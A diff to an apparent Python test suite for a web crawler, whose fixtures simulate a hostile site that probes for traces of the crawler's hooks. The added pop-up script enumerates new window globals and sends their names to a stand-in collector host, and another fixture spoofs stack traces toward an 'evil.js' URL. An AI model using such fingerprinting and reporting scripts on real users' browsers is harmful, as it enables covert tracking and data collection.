@@ -210,9 +210,21 @@ FRAME_PAGE = f"""<!doctype html><title>frame</title><script src="https://{HOST}/
 FRAME_JS = """Error.prepareStackTrace = () => "Error\\n    at https://forger.example/evil.js:1:1";
 document.cookie = "frame_cookie=1; path=/; max-age=3600; SameSite=None; Secure";"""
 
-# The pop-up's first document loads before the crawler has its page; it moves on to a second one.
-POPUP_ONE = """<!doctype html><title>pop</title>
-<script>setTimeout(() => location.href = "/two", 300)</script>"""
+# The pop-up's first document loads before the crawler has its page (hooked from then on); it watches
+# its globals meanwhile (a binding left behind would show up), then moves on to a second document.
+POPUP_ONE = """<!doctype html><title>pop</title><script>(() => {
+  const base = new Set(Object.getOwnPropertyNames(window));
+  const extra = new Set();
+  const watch = setInterval(() => {
+    for (const n of Object.getOwnPropertyNames(window)) if (!base.has(n) && !/^\\d+$/.test(n)) extra.add(n);
+  }, 5);
+  setTimeout(() => {
+    clearInterval(watch);
+    const names = [...extra].join(",");
+    fetch("https://collector.hostile-demo.net/found?where=pop.hostile-demo.net/one&names=" + names,
+          { mode: "no-cors" }).catch(() => {}).finally(() => { location.href = "/two"; });
+  }, 400);
+})();</script>"""
 POPUP_TWO = f"""<!doctype html><title>pop two</title><script src="https://{HOST}/probe.js?in=popup"></script>
 <script src="/pop.js"></script>"""
 POPUP_JS = """document.cookie = "popup_cookie=1; path=/; max-age=3600; SameSite=None; Secure";"""
@@ -276,7 +288,7 @@ def hostile(tmp_path_factory):
 def test_the_page_finds_no_trace_of_the_hooks(hostile):
     _, _, found = hostile
     # Probes ran in the page, in its cross-origin iframe and in the pop-up's second document.
-    assert {f"{HOST}/", f"{FRAME}/frame", f"{POPUP}/two", "traps"} <= set(found), found
+    assert {f"{HOST}/", f"{FRAME}/frame", f"{POPUP}/one", f"{POPUP}/two", "traps"} <= set(found), found
     assert all(names == "" for names in found.values()), found
 
 
